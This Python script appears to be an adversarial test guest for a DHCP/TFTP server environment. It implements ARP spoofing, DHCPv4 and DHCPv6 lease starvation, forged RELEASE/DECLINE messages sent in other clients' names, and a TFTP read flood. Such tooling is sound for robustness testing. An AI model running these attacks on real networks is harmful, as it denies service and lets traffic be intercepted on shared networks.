"""A guest that works against the others:
  answer                      answers every ARP request, until it is stopped
  decline COUNT               takes an address and declines it, COUNT times, as one client
  take COUNT                  takes a lease for each of COUNT invented MACs
  giveback TYPE MAC IP own|forged   a DHCP RELEASE (7) or DECLINE (4) in another's name, in frames of its own MAC or the other's
  release6 DUID IAID IP       a DHCPv6 RELEASE in another's name
  take6 COUNT                 takes a DHCPv6 lease for each of COUNT invented DUIDs
  reads COUNT SERVER          begins COUNT TFTP reads of "boot" and acknowledges nothing
  fetch SERVER FILE           prints the length of what it reads by TFTP, or the error"""
import os, select, socket, struct, sys, time
from dhcp_wire import answer, frame, link as open_link

HERE = open("/sys/class/net/eth0/address").read().strip()
MAC = bytes.fromhex(HERE.replace(":", ""))


def exchange(link, mac, kind, options, seconds=1.0):
    """The answer to a message: its kind, address and options; None in vain."""
    link.send(frame(mac, kind, options))
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0 and select.select([link], [], [], left)[0]:
        got = answer(link.recv(2048))
        if got and got[0] == mac and 53 in got[2] and got[2][53][0] in (2, 5, 6):
            return got[2][53][0], got[1], got[2]
    return None


def lease(link, mac):
    for _ in range(5):
        offer = exchange(link, mac, 1, b"", 0.4)
        if offer and offer[0] == 2:
            ack = exchange(link, mac, 3, b"\x32\x04" + offer[1] + b"\x36\x04" + offer[2][54])
            if ack and ack[0] == 5:
                return ack[1], ack[2][54]
    return None


def invented(i):
    return b"\x52\x54\x00\x66" + struct.pack(">H", i)


def do_answer():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    s.bind(("eth0", 0x0806))
    print("ready", flush=True)
    while True:
        f = s.recv(2048)
        if len(f) >= 42 and f[20:22] == b"\0\1" and f[6:12] != MAC:
            s.send(f[6:12] + MAC + b"\x08\x06\0\1\x08\0\6\4\0\2" + MAC + f[38:42] + f[22:32])


def do_decline(count):
    link, done = open_link(), 0
    for _ in range(int(count)):
        got = lease(link, MAC)
        if got:
            link.send(frame(MAC, 4, b"\x32\x04" + got[0] + b"\x36\x04" + got[1]))
            done += 1
    print("declined", done, flush=True)


def do_take(count):
    link = open_link()
    taken = 0
    for i in range(int(count)):
        offer = exchange(link, invented(i), 1, b"", 0.1)
        if offer and offer[0] == 2:
            ack = exchange(link, invented(i), 3, b"\x32\x04" + offer[1] + b"\x36\x04" + offer[2][54], 0.3)
            taken += bool(ack and ack[0] == 5)
    print("taken", taken, flush=True)


def do_giveback(kind, mac, ip, how):
    link, other = open_link(), bytes.fromhex(mac.replace(":", ""))
    address, server = socket.inet_aton(ip), socket.inet_aton(ip.rsplit(".", 1)[0] + ".1")
    wish = b"" if kind == "7" else b"\x32\x04" + address
    f = frame(other, int(kind), b"\x36\x04" + server + wish, address if kind == "7" else bytes(4))
    link.send(f if how == "forged" else f[:6] + MAC + f[12:])


def six():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")
    s.bind(("::", 546))
    return s


def option6(code, value):
    return struct.pack(">HH", code, len(value)) + value


def options6(data):
    found, at = {}, 0
    while at + 4 <= len(data):
        code, length = struct.unpack_from(">HH", data, at)
        found.setdefault(code, data[at + 4:at + 4 + length])
        at += 4 + length
    return found


def ask6(s, kind, duid, iaid, server=None, ip=None, seconds=2.0):
    xid = os.urandom(3)
    inside = option6(5, socket.inet_pton(socket.AF_INET6, ip) + bytes(8)) if ip else b""
    body = bytes([kind]) + xid + option6(1, duid) + option6(3, struct.pack(">3I", iaid, 0, 0) + inside)
    body += option6(2, server) if server else b""
    s.sendto(body, ("ff02::1:2", 547, 0, socket.if_nametoindex("eth0")))
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0 and select.select([s], [], [], left)[0]:
        data = s.recv(2048)
        if data[1:4] == xid:
            got = options6(data[4:])
            inner = options6(got.get(3, bytes(12))[12:]).get(5)
            return got.get(2), inner and socket.inet_ntop(socket.AF_INET6, inner[:16])
    return None, None


def do_release6(duid, iaid, ip):
    s, duid = six(), bytes.fromhex(duid.replace(":", ""))
    server, _ = ask6(s, 1, b"\0\4" + MAC, 1)
    ask6(s, 8, duid, int(iaid), server, ip)


def do_take6(count):
    s, taken = six(), 0
    for i in range(int(count)):
        duid = b"\0\4\x66" + struct.pack(">H", i)
        server, ip = ask6(s, 1, duid, 1, seconds=0.5)
        if ip:
            taken += ask6(s, 3, duid, 1, server, ip)[1] is not None
    print("taken", taken, flush=True)


def do_reads(count, server):
    sockets = []
    for _ in range(int(count)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"\0\1boot\0octet\0timeout\x00255\0", (server, 69))
        sockets.append(s)
    print("ready", flush=True)
    time.sleep(60)


def do_fetch(server, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(b"\0\1" + name.encode() + b"\0octet\0", (server, 69))
    total, expected, silent = 0, 1, 0
    while silent < 5:
        try:
            data, peer = s.recvfrom(2048)
        except TimeoutError:
            silent += 1
            continue
        if data[1] == 5:
            print("error", data[4:-1].decode(), flush=True)
            return
        block = struct.unpack(">H", data[2:4])[0]
        s.sendto(b"\0\4" + data[2:4], peer)
        if block == expected:
            total, expected = total + len(data) - 4, expected + 1
            if len(data) < 516:
                print("read", total, flush=True)
                return
    print("silence", flush=True)


globals()["do_" + sys.argv[1]](*sys.argv[2:])
